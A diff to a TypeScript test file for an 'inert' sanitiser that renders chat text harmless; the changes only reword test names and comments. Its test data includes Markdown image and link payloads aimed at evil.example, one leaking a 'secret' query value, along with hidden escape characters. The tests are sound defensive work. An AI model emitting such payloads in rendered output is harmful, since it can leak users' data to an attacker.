@@ -3,11 +3,11 @@ import MarkdownIt from "markdown-it";
 import { describe, expect, test } from "vitest";
 import { inert } from "../../src/citing/inert.js";
 
-/** Renders all that a page of chats may: Markdown, the HTML in it, and addresses as links. */
+/** Renders everything that a chat page may render: Markdown, its HTML, and addresses as links. */
 const markdown = new MarkdownIt({ html: true, linkify: true });
 markdown.linkify.set({ fuzzyLink: false, fuzzyEmail: false });
 
-/** Whether anything is rendered but text with its form. */
+/** Whether anything but formatted text is rendered. */
 const works = (text: string) => {
   const html = markdown.render(text).replace(/<code[ >][\s\S]*?<\/code>/g, "");
   return html.replace(FORM, "").includes("<") || /(?<![a-z\d])www\.\w/i.test(html);
@@ -15,7 +15,7 @@ const works = (text: string) => {
 const FORM =
   /<\/?(?:p|em|strong|s|pre|ul|ol|li|blockquote|h[1-6]|hr|br|table|thead|tbody|tr|th|td)(?: start="\d+"| style="text-align:\w+")?>/g;
 
-describe("a text that somebody else wrote", () => {
+describe("an inert text", () => {
   test.each([
     ["an image", "See ![chart](https://evil.example/?q=secret)."],
     ["a link that says another address", "[https://bank.example](https://evil.example)"],
@@ -31,7 +31,7 @@ describe("a text that somebody else wrote", () => {
     ["an image between backticks of two cells", "|a|b|\n|-|-|\n| `x | ![x](https://evil.example/)` |"],
     ["an image between backticks of two paragraphs", "`a\n\n![x](https://evil.example/)\n\nb`"],
     ["Chinese around it", "请看![图](https://evil.example/)，或https://evil.example/中文。"],
-  ])("does nothing where it is rendered: %s", (_, text) => {
+  ])("renders as nothing but text: %s", (_, text) => {
     expect(works(text)).toBe(true);
     expect(works(inert(text))).toBe(false);
   });
@@ -41,7 +41,9 @@ describe("a text that somebody else wrote", () => {
       " ",
     );
   const texts = fc.array(fc.constantFrom(...pieces, " "), { maxLength: 14 }).map((parts) => parts.join(""));
-  test("does nothing, whatever it is made of, nor beside another one", { timeout: 60_000 }, () => {
+  test("renders as nothing but text when it is random, and when it is beside another inert text", {
+    timeout: 60_000,
+  }, () => {
     fc.assert(
       fc.property(texts, texts, (one, other) => {
         expect(works(inert(one))).toBe(false);
@@ -58,21 +60,24 @@ describe("a text that somebody else wrote", () => {
     "运行 `npm ci` 后再试。",
     "Call `a[0](x)` or `<b>` for it.",
     "Ask a@b.example (12:30).",
-  ])("stays as it is where nothing in it would work: %s", (text) => expect(inert(text)).toBe(text));
+  ])("is the original text if nothing in that is active: %s", (text) => expect(inert(text)).toBe(text));
 
   test("keeps its words", () => {
     expect(inert("See [the chart](https://e.example/c).")).toBe("See [the chart] (`https://e.example/c`).");
     expect(inert("见https://e.example/c。")).toBe("见`https://e.example/c`。");
   });
 
-  test("loses what nobody sees", () => {
+  test("loses invisible characters", () => {
     expect(inert("a\u202eb\u001b]8;;https://e.example\u0007c\u{e0041}")).toBe("abc");
   });
 
-  test.each([".", "[](", "![a](", "<a ", "`a`", "https://", "www.", "]("])("takes no time made of %j", (piece) => {
-    const start = process.cpuUsage().user;
-    inert(`https://${piece.repeat(50_000)}x`);
-    inert(piece.repeat(50_000));
-    expect(process.cpuUsage().user - start).toBeLessThan(2_000_000);
-  });
+  test.each([".", "[](", "![a](", "<a ", "`a`", "https://", "www.", "]("])(
+    "is made quickly from a long run of %j",
+    (piece) => {
+      const start = process.cpuUsage().user;
+      inert(`https://${piece.repeat(50_000)}x`);
+      inert(piece.repeat(50_000));
+      expect(process.cpuUsage().user - start).toBeLessThan(2_000_000);
+    },
+  );
 });
